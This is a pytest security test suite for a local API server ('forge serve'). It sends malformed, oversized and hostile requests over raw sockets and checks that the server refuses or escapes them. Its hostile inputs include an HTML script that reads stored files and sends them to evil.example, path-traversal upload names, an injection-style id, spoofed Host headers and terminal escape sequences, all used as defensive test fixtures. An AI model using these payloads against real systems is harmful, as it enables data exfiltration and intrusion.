"""`forge serve` against hostile clients: malformed and oversized input, odd headers, slow and
vanishing clients, and what reaches the server's own terminal.

Every request goes over a real loopback socket to uvicorn, most of them written byte for byte
(raw sockets), since a client library would refuse to send them. An ASGI wrapper around the app
records any exception that escapes it: uvicorn prints such an exception as a full traceback on
the server's terminal (client-controlled text included) and answers a bare text/plain 500.
"""

from __future__ import annotations

import json
import os
import socket
import stat
import threading
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Protocol

import anyio
import pytest
from engine_helpers import read_reply
from starlette.applications import Starlette
from starlette.requests import Request as HTTPRequest
from starlette.responses import Response, StreamingResponse
from starlette.routing import Route
from starlette.types import Receive, Scope, Send

from forge_cli.engine import Engine, EngineConfig
from forge_cli.engine.app import create_app
from forge_cli.engine.guard import GuardPolicy
from forge_cli.engine.server import BackgroundServer
from forge_cli.knowledge import KnowledgeStore
from forge_cli.sanitize import dangerous_chars

MAX_FILE = 4000


@dataclass
class Escapes:
    """The ASGI wrapper: requests finished, and exceptions that escaped the app."""

    app: Any
    finished: threading.Semaphore = field(default_factory=lambda: threading.Semaphore(0))
    escaped: list[BaseException] = field(default_factory=list)

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        try:
            await self.app(scope, receive, send)
        except BaseException as exc:
            self.escaped.append(exc)
            raise
        finally:
            if scope["type"] == "http":
                self.finished.release()


@dataclass
class Served:
    server: BackgroundServer
    app: Starlette
    wrapper: Escapes
    store: KnowledgeStore
    vector_store_id: str
    file_id: str
    root: Path

    @property
    def port(self) -> int:
        return int(self.server.port)

    def wait_finished(self, count: int = 1) -> None:
        for _ in range(count):
            assert self.wrapper.finished.acquire(timeout=30), "the request never finished"


def _boom(_request: HTTPRequest) -> Response:
    raise RuntimeError("kaboom \x1b]0;pwned\x07\x1b[2J at /home/someone/secret/path.py")


STREAM_PAUSE = 0.6
"""How long /slow-stream pauses between its two chunks (longer than the 408 test's timeout)."""


async def _slow_stream(request: HTTPRequest) -> Response:
    await request.body()

    async def chunks() -> AsyncIterator[bytes]:
        yield b"first\n"
        await anyio.sleep(STREAM_PAUSE)  # the time passing is what is tested, not a wait
        yield b"last\n"

    return StreamingResponse(chunks(), media_type="text/event-stream")


def _serve(tmp_path: Path, *, body_timeout: float | None = None) -> Iterator[Served]:
    root = tmp_path / "data"
    with KnowledgeStore(root / "knowledge.db", max_file_bytes=MAX_FILE) as store:
        vs = store.create_vector_store("corpus")
        added = store.add_file(
            b"A lighthouse keeper trims the lamp wick every evening.",
            "lighthouse.md",
            vector_store_id=vs.id,
        )
        assert added.file is not None
        engine = Engine(store, EngineConfig(seed=False))
        wrapper = Escapes(None)
        server = BackgroundServer(app=wrapper)  # bound here, so the policy knows its port
        extra = {} if body_timeout is None else {"body_timeout": body_timeout}
        policy = GuardPolicy(
            host="127.0.0.1",
            port=server.port,
            max_body_bytes=1 << 20,
            max_upload_bytes=MAX_FILE + 65536,
            **extra,
        )
        app = create_app(engine, guard=policy)
        app.router.routes.append(Route("/boom", _boom, methods=["GET"]))
        app.router.routes.append(Route("/slow-stream", _slow_stream, methods=["POST"]))
        wrapper.app = app
        with server:
            yield Served(server, app, wrapper, store, vs.id, added.file.id, root)


@pytest.fixture
def served(tmp_path: Path) -> Iterator[Served]:
    yield from _serve(tmp_path)


# -- raw HTTP -------------------------------------------------------------------------------


class Target(Protocol):
    """A server on loopback: :class:`Served` or a plain :class:`BackgroundServer`."""

    @property
    def port(self) -> int: ...


def _raw(served: Target, data: bytes) -> tuple[int, dict[str, str], bytes]:
    with socket.create_connection(("127.0.0.1", served.port), timeout=30) as sock:
        sock.sendall(data)
        return read_reply(sock)


def _request(
    served: Target,
    method: str,
    path: str,
    body: bytes = b"",
    headers: dict[str, str] | None = None,
) -> tuple[int, dict[str, str], bytes]:
    all_headers = {"Host": f"127.0.0.1:{served.port}", "Content-Type": "application/json"}
    all_headers.update(headers or {})
    all_headers["Content-Length"] = str(len(body))
    head = f"{method} {path} HTTP/1.1\r\n" + "".join(
        f"{k}: {v}\r\n" for k, v in all_headers.items()
    )
    return _raw(served, head.encode("utf-8") + b"\r\n" + body)


def _post(served: Target, path: str, body: Any) -> tuple[int, dict[str, Any]]:
    data = body if isinstance(body, bytes) else json.dumps(body).encode()
    status, _, answer = _request(served, "POST", path, data)
    return status, json.loads(answer)


def _assert_error(status: int, answer: dict[str, Any], expected: int, code: str) -> None:
    assert status == expected, answer
    assert set(answer) == {"error"}
    assert set(answer["error"]) == {"message", "type", "param", "code"}
    assert answer["error"]["code"] == code


# -- malformed JSON bodies ------------------------------------------------------------------


def _routes(served: Served) -> list[tuple[str, dict[str, Any]]]:
    vs = served.vector_store_id
    return [
        ("/v1/vector_stores", {"name": "x"}),
        ("/v1/responses", {"model": "m", "input": "x"}),
        ("/v1/chat/completions", {"model": "m", "messages": [{"role": "user", "content": "x"}]}),
        (f"/v1/vector_stores/{vs}/search", {"query": "x"}),
    ]


def test_an_unpaired_surrogate_in_a_json_string_is_a_400(served: Served) -> None:
    """``"\\ud800"`` is valid JSON but no UTF-8 text: it crashed every JSON route with a 500."""
    for path, body in _routes(served):
        text = json.dumps(body).replace('"x"', '"lamp \\ud800"', 1)
        status, answer = _post(served, path, text.encode())
        _assert_error(status, answer, 400, "invalid_value")
        assert "surrogate" in answer["error"]["message"]
    # A correctly paired surrogate (an emoji) is fine.
    status, _ = _post(served, "/v1/vector_stores", b'{"name": "\\ud83d\\ude00"}')
    assert status == 200
    assert served.wrapper.escaped == []


MALFORMED = (
    b"[" * 100_000 + b"]" * 100_000,  # deep
    b'{"name": ' + b"9" * 100_000 + b"}",  # a 10^5-digit int
    b'{"name": "\xff\xfe"}',  # not UTF-8
    b'{"name": NaN',  # cut short
    b"[1, 2]",  # not an object
    b'{"name": "a", "name": ',  # a duplicate key, cut short
)


def test_malformed_json_is_a_400(served: Served) -> None:
    for body in MALFORMED:
        status, answer = _post(served, "/v1/vector_stores", body)
        _assert_error(status, answer, 400, "invalid_value")
    assert served.wrapper.escaped == []


def _wrong_types(served: Served) -> list[tuple[str, dict[str, Any]]]:
    vs = served.vector_store_id
    user = [{"role": "user", "content": "lamp"}]
    chat = "/v1/chat/completions"
    search = f"/v1/vector_stores/{vs}/search"
    return [
        (chat, {"model": "m", "messages": user, "tools": [{"type": "function", "function": "x"}]}),
        (chat, {"model": "m", "messages": user, "tools": 5}),
        (chat, {"model": "m", "messages": user, "tools": {"type": "function"}}),
        (
            chat,
            {
                "model": "m",
                "messages": user,
                "tools": [{"type": "function", "function": {"name": {"a": 1}}}],
            },
        ),
        (
            chat,
            {"model": "m", "messages": user, "tool_choice": {"type": "function", "function": 1}},
        ),
        (chat, {"model": "m", "messages": [{"role": "assistant", "tool_calls": 5}]}),
        (
            chat,
            {"model": "m", "messages": [{"role": "assistant", "tool_calls": [{"function": "f"}]}]},
        ),
        (search, {"query": "lamp", "ranking_options": {"score_threshold": "high"}}),
        (search, {"query": "lamp", "ranking_options": {"score_threshold": True}}),
        (search, {"query": "lamp", "ranking_options": [0.5]}),
        (search, {"query": ["lamp", {"a": 1}]}),
        ("/v1/vector_stores", {"name": "x", "description": {"a": 1}}),
        ("/v1/vector_stores", {"name": "x", "description": 5}),
        (f"/v1/vector_stores/{vs}", {"name": ["x"]}),
        (f"/v1/vector_stores/{vs}", {"description": {"a": 1}}),
        (f"/v1/vector_stores/{vs}/file_batches", {"file_ids": 5}),
        (f"/v1/vector_stores/{vs}/file_batches", {"files": True}),
        (f"/v1/vector_stores/{vs}/file_batches", {"files": {"file_id": served.file_id}}),
    ]


def test_non_finite_numbers_are_a_400(served: Served) -> None:
    """Python's JSON reads ``NaN``, ``Infinity`` and ``1e999`` (as inf); a temperature of inf was
    echoed in the response, which JSON cannot write: a 500."""
    for number in ("NaN", "Infinity", "-Infinity", "1e999", "1" * 400 + ".0"):
        body = f'{{"model": "m", "input": "lamp", "temperature": {number}}}'.encode()
        status, answer = _post(served, "/v1/responses", body)
        _assert_error(status, answer, 400, "invalid_value")
        assert "finite" in answer["error"]["message"]
    # Such words inside strings are only text.
    status, _ = _post(served, "/v1/vector_stores", {"name": "NaN Infinity 1e999"})
    assert status == 200
    assert served.wrapper.escaped == []


def test_list_paging_out_of_range_is_a_400(served: Served) -> None:
    """``limit=-1`` answered one item with ``has_more: true`` forever: a client paging with
    ``after`` never reached the end."""
    paths = ("/v1/files", "/v1/vector_stores", f"/v1/vector_stores/{served.vector_store_id}/files")
    for query in ("limit=0", "limit=-1", "limit=%C2%B2", "limit=00", "order=sideways"):
        for path in paths:
            status, _, body = _request(served, "GET", f"{path}?{query}")
            _assert_error(status, json.loads(body), 400, "invalid_value")
    for limit in ("1", "9" * 5000):
        status, _, body = _request(served, "GET", f"/v1/vector_stores?limit={limit}")
        assert status == 200
        assert json.loads(body)["has_more"] is False


def test_wrong_types_are_a_400_naming_the_field(served: Served) -> None:
    """Each of these was a 500 (an AttributeError, a TypeError or a SQLite binding error that
    named the store's internals), or silently stored ``5`` as ``"5"``."""
    for path, body in _wrong_types(served):
        status, answer = _post(served, path, body)
        _assert_error(status, answer, 400, "invalid_value")
        assert "sqlite" not in answer["error"]["message"].lower()
        assert "binding" not in answer["error"]["message"]
    assert served.wrapper.escaped == []
    names = [vs.name for vs in served.store.list_vector_stores()]
    assert names == ["corpus"]


# -- unexpected failures --------------------------------------------------------------------


def test_an_unexpected_error_is_an_openai_500_and_one_clean_log_line(
    served: Served, capfd: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture
) -> None:
    status, headers, body = _request(served, "GET", "/boom")
    served.wait_finished()
    assert status == 500
    assert headers["content-type"] == "application/json"
    answer = json.loads(body)
    _assert_error(status, answer, 500, "server_error")
    # Nothing of the exception reaches the client: no text, no path, no traceback.
    assert "kaboom" not in body.decode()
    assert "/home/someone" not in body.decode()
    assert served.wrapper.escaped == []
    assert "Traceback" not in capfd.readouterr().err
    [record] = [r for r in caplog.records if r.name.startswith("forge_cli.engine")]
    line = record.getMessage()
    assert record.exc_info is None
    assert not set(line) & dangerous_chars()
    assert line.startswith("GET /boom failed: RuntimeError: kaboom \\x1b]0;pwned\\x07\\x1b[2J")


def test_a_client_that_hangs_up_mid_body_is_not_an_error(
    served: Served, capfd: pytest.CaptureFixture[str]
) -> None:
    """Starlette raises ClientDisconnect from ``request.body()``; it escaped to uvicorn, which
    printed a traceback on the server's terminal for every such client."""
    for path in ("/v1/vector_stores", "/v1/files"):
        head = (
            f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1:{served.port}\r\n"
            "Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n"
        )
        with socket.create_connection(("127.0.0.1", served.port), timeout=30) as sock:
            sock.sendall(head.encode() + b'{"name": ')  # then hang up, 990 bytes short
        served.wait_finished()
    assert served.wrapper.escaped == []
    assert "Traceback" not in capfd.readouterr().err
    assert [vs.name for vs in served.store.list_vector_stores()] == ["corpus"]


def test_a_body_that_stops_arriving_is_answered_408(tmp_path: Path) -> None:
    """A slow-drip client held its connection (and a task) forever; now a body that sends
    nothing for ``body_timeout`` seconds gets 408 ``request_timeout``."""
    for served in _serve(tmp_path, body_timeout=0.2):
        for path in ("/v1/vector_stores", "/v1/files", "/v1/responses"):
            head = (
                f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1:{served.port}\r\n"
                "Content-Type: application/json\r\nContent-Length: 100\r\n\r\n"
            )
            with socket.create_connection(("127.0.0.1", served.port), timeout=30) as sock:
                sock.sendall(head.encode() + b'{"na')
                status, _, body = read_reply(sock)
            _assert_error(status, json.loads(body), 408, "request_timeout")
        # A complete request is not affected, and neither is an answer that streams for longer
        # than the timeout (Starlette waits for http.disconnect meanwhile: no timeout there).
        status, _ = _post(served, "/v1/vector_stores", {"name": "fine"})
        assert status == 200
        head = (
            f"POST /slow-stream HTTP/1.1\r\nHost: 127.0.0.1:{served.port}\r\n"
            "Connection: close\r\nContent-Length: 2\r\n\r\n{}"
        )
        with socket.create_connection(("127.0.0.1", served.port), timeout=30) as sock:
            sock.sendall(head.encode())
            reply = b""
            while piece := sock.recv(65536):
                reply += piece
        assert b"first" in reply
        assert b"last" in reply
        assert served.wrapper.escaped == []


def test_many_clients_that_vanish_mid_stream_leave_the_server_healthy(served: Served) -> None:
    body = json.dumps({"model": "m", "input": "lighthouse lamp", "stream": True}).encode()
    head = (
        f"POST /v1/responses HTTP/1.1\r\nHost: 127.0.0.1:{served.port}\r\n"
        f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
    ).encode()

    def vanish(read: bool) -> None:
        with socket.create_connection(("127.0.0.1", served.port), timeout=30) as sock:
            sock.sendall(head + body)
            if read:
                sock.recv(64)

    threads = [threading.Thread(target=vanish, args=(n % 2 == 0,)) for n in range(40)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    served.wait_finished(40)
    assert served.wrapper.escaped == []
    status, _, answer = _request(served, "GET", "/health")
    assert status == 200
    assert json.loads(answer)["status"] == "ok"


# -- held attacks (regression guards) -------------------------------------------------------


ODD_HOSTS = (
    "localhost.:{port}",
    "127.0.0.1.:{port}",
    "127.1:{port}",
    "2130706433:{port}",
    "0x7f.0.0.1:{port}",
    "[::ffff:127.0.0.1]:{port}",
    "127.0.0.1:{port}@evil.example",
    "evil.example#@127.0.0.1:{port}",
    "127.0.0.1:+{port}",
    "[::1]",
)


def test_odd_host_spellings_are_refused(served: Served) -> None:
    for host in ODD_HOSTS:
        headers = {"Host": host.format(port=served.port)}
        status, _, body = _request(served, "GET", "/v1/files", headers=headers)
        _assert_error(status, json.loads(body), 400, "invalid_host")


def test_a_request_without_host_is_refused(served: Served) -> None:
    status, _, body = _raw(served, b"GET /v1/files HTTP/1.0\r\n\r\n")
    _assert_error(status, json.loads(body), 400, "invalid_host")


CROSS_ORIGIN = (
    {"Origin": "null"},
    {"Origin": ""},
    {"Origin": "http://localhost.:{port}"},
    {"Origin": "http://user@127.0.0.1:{port}"},
    {"Origin": "https://127.0.0.1:{port}"},
    {"Sec-Fetch-Site": "Same-Site"},
)


def test_cross_origin_write_variants_are_refused(served: Served) -> None:
    for headers in CROSS_ORIGIN:
        filled = {k: v.format(port=served.port) for k, v in headers.items()}
        status, _, body = _request(served, "POST", "/v1/vector_stores", b'{"name": "pwn"}', filled)
        _assert_error(status, json.loads(body), 403, "cross_origin_refused")
    # A preflight from a page of another origin gets no CORS permission.
    status, answer, _ = _request(
        served,
        "OPTIONS",
        "/v1/vector_stores",
        headers={"Origin": "http://evil.example", "Access-Control-Request-Method": "POST"},
    )
    assert "access-control-allow-origin" not in answer


FTS_SYNTAX = ('"', "NEAR(", "*", "AND OR NOT", "^lamp", "text: lamp", "lamp\x00", "!!!", "the of")


def test_fts_syntax_in_queries_is_plain_text(served: Served) -> None:
    path = f"/v1/vector_stores/{served.vector_store_id}/search"
    for query in (*FTS_SYNTAX, "lamp " * 200_000):
        status, answer = _post(served, path, {"query": query})
        assert status == 200, answer
        assert answer["object"] == "vector_store.search_results.page"


def test_result_counts_out_of_range_are_a_400(served: Served) -> None:
    path = f"/v1/vector_stores/{served.vector_store_id}/search"
    for limit in (0, -1, 10**9, 2.5, "5", True):
        status, answer = _post(served, path, {"query": "lamp", "max_num_results": limit})
        _assert_error(status, answer, 400, "invalid_value")


def test_ids_are_only_ids(served: Served) -> None:
    hostile = ("..%2F..%2Fknowledge.db", "%27%20OR%201%3D1--", "*", "%25", "%E2%80%AE", "a" * 5000)
    for ident in hostile:
        for path in (f"/v1/vector_stores/{ident}", f"/v1/files/{ident}/content"):
            status, _, _ = _request(served, "GET", path)
            assert status == 404, path
    # A file id of the store is not a member of another store.
    other = served.store.create_vector_store("other")
    status, _, _ = _request(served, "GET", f"/v1/vector_stores/{other.id}/files/{served.file_id}")
    assert status == 404


def _multipart(filename: bytes, content: bytes, *, parts: int = 0) -> tuple[bytes, str]:
    boundary = "hostileboundary"
    body = b""
    for n in range(parts):
        body += (
            f'--{boundary}\r\nContent-Disposition: form-data; name="f{n}"\r\n\r\nv\r\n'
        ).encode()
    body += (
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="'.encode()
        + filename
        + b'"\r\nContent-Type: text/plain\r\n\r\n'
        + content
        + f"\r\n--{boundary}--\r\n".encode()
    )
    return body, f"multipart/form-data; boundary={boundary}"


HOSTILE_NAMES = (
    b"../../../../tmp/forge-pwned.md",
    b"/tmp/forge-pwned-abs.md",
    b"..\\\\..\\\\pwned.md",
    b"\x1b[31mred.md",
    b"\xe2\x80\xaedm.exe.md",
    b"x" * 5000 + b".md",
    b"...",
)


def test_hostile_upload_names_never_write_outside_the_store(served: Served) -> None:
    for filename in HOSTILE_NAMES:
        content = os.urandom(8).hex().encode() + b" lamp notes\n"
        body, content_type = _multipart(filename, content)
        headers = {"Content-Type": content_type}
        status, _, answer = _request(served, "POST", "/v1/files", body, headers)
        assert status in (200, 400), answer
    assert served.wrapper.escaped == []
    assert not Path("/tmp/forge-pwned.md").exists()
    assert not Path("/tmp/forge-pwned-abs.md").exists()
    names = sorted(p.name for p in served.root.iterdir())
    assert all(name.startswith("knowledge.db") for name in names), names
    assert stat.S_IMODE(served.root.stat().st_mode) == 0o700
    for path in served.root.iterdir():
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path


def test_many_parts_and_oversized_files_are_bounded(served: Served) -> None:
    body, content_type = _multipart(b"many.md", b"many parts lamp", parts=3000)
    status, _, _ = _request(served, "POST", "/v1/files", body, {"Content-Type": content_type})
    assert status == 413  # 3000 parts do not fit the multipart slack
    body, content_type = _multipart(b"big.md", b"a" * (MAX_FILE + 10))
    status, _, answer = _request(served, "POST", "/v1/files", body, {"Content-Type": content_type})
    _assert_error(status, json.loads(answer), 400, "invalid_value")
    assert "too large" in json.loads(answer)["error"]["message"]


# -- what a terminal shows of an answer -----------------------------------------------------

_SPOOF = "\u009b2J\u202etxt.exe\u200b\U000e0041"
"""A C1 CSI (a screen clear on its own), a right-to-left override, a zero-width space and a tag
character: JSON leaves them raw, so ``curl`` of a listing drives the terminal or lies to it."""


def _no_raw_controls(data: bytes) -> None:
    text = data.decode("utf-8").replace("\r\n", "\n")  # HTTP's own line ends
    assert not set(text) & dangerous_chars(), text


def test_stored_names_come_back_escaped_in_json_and_sse(served: Served) -> None:
    """A client stores a vector store and a file under spoofing names; whoever lists them with
    curl, or streams an answer that quotes the question, must not get the characters raw."""
    status, answer = _post(served, "/v1/vector_stores", {"name": f"notes{_SPOOF}"})
    assert status == 200
    body, content_type = _multipart(f"a{_SPOOF}.md".encode(), b"spoof lamp notes\n")
    status, _, _ = _request(served, "POST", "/v1/files", body, {"Content-Type": content_type})
    assert status == 200
    for path in ("/v1/vector_stores", "/v1/files", f"/v1/vector_stores/{answer['id']}"):
        status, _, listing = _request(served, "GET", path)
        assert status == 200
        _no_raw_controls(listing)
    # The JSON is exact: the names round-trip.
    _, _, listing = _request(served, "GET", "/v1/vector_stores")
    assert f"notes{_SPOOF}" in [vs["name"] for vs in json.loads(listing)["data"]]
    for route, request in (
        ("/v1/responses", {"model": "m", "input": f"lamp {_SPOOF}", "stream": True}),
        (
            "/v1/chat/completions",
            {
                "model": "m",
                "messages": [{"role": "user", "content": f"x {_SPOOF}"}],
                "stream": True,
            },
        ),
        ("/v1/responses", {"model": "m", "input": f"lamp {_SPOOF}"}),
    ):
        data = json.dumps(request).encode()
        with socket.create_connection(("127.0.0.1", served.port), timeout=30) as sock:
            head = (
                f"POST {route} HTTP/1.1\r\nHost: 127.0.0.1:{served.port}\r\nConnection: close\r\n"
                f"Content-Type: application/json\r\nContent-Length: {len(data)}\r\n\r\n"
            )
            sock.sendall(head.encode() + data)
            reply = b""
            while piece := sock.recv(65536):
                reply += piece
        assert reply.startswith(b"HTTP/1.1 200"), reply[:200]
        assert b"\\u202e" in reply  # the question is quoted, escaped
        _no_raw_controls(reply)


# -- memory ---------------------------------------------------------------------------------


def test_stored_responses_are_bounded_in_bytes_not_only_in_count(tmp_path: Path) -> None:
    """256 stored responses of 16 MiB questions were 256 x ~30 MB in memory (each answer also
    quoted the whole question): a client could push ``forge serve`` to gigabytes."""
    budget = 400_000
    with KnowledgeStore(tmp_path / "knowledge.db") as store:
        engine = Engine(store, EngineConfig(seed=False, stored_response_bytes=budget))
        with BackgroundServer(engine) as served:
            ids = []
            for n in range(6):
                question = f"zebra{n} " + "quux " * 20_000  # 100 kB, matching nothing
                status, answer = _post(served, "/v1/responses", {"model": "m", "input": question})
                assert status == 200
                assert len(json.dumps(answer)) < 20_000  # the answer does not quote it whole
                ids.append(answer["id"])
            kept = [_request(served, "GET", f"/v1/responses/{i}")[0] for i in ids]
            # The newest are kept while they fit; the oldest were dropped to stay in budget.
            assert kept[-1] == 200
            assert kept[0] == 404
            # One response larger than the whole budget is answered but not stored.
            question = "quux " * 100_000
            status, answer = _post(served, "/v1/responses", {"model": "m", "input": question})
            assert status == 200
            assert _request(served, "GET", f"/v1/responses/{answer['id']}")[0] == 404
            assert _request(served, "GET", f"/v1/responses/{ids[-1]}")[0] == 200


# -- documents served back --------------------------------------------------------------------


def test_a_stored_html_document_is_downloaded_not_run_in_the_servers_origin(
    served: Served,
) -> None:
    """An HTML page in the store was served as ``text/html`` from the API's own origin: opening
    ``/v1/files/ID/content`` in a browser ran its scripts same-origin with the API, free to read
    every document and (its Origin being the server's own) to write."""
    page = (
        b"<html><body><h1>Lighthouse notes</h1><script>fetch('/v1/files').then(r => r.text())"
        b".then(t => fetch('https://evil.example/?' + btoa(t)))</script></body></html>"
    )
    body, content_type = _multipart("notes ; x=\u202e.html".encode(), page)
    status, _, answer = _request(served, "POST", "/v1/files", body, {"Content-Type": content_type})
    assert status == 200, answer
    file_id = json.loads(answer)["id"]
    status, headers, content = _request(served, "GET", f"/v1/files/{file_id}/content")
    assert status == 200
    assert content == page  # the bytes are unchanged for API clients
    assert headers["content-disposition"].startswith("attachment;")
    assert headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in headers["content-security-policy"]
    assert headers["content-disposition"].isascii()
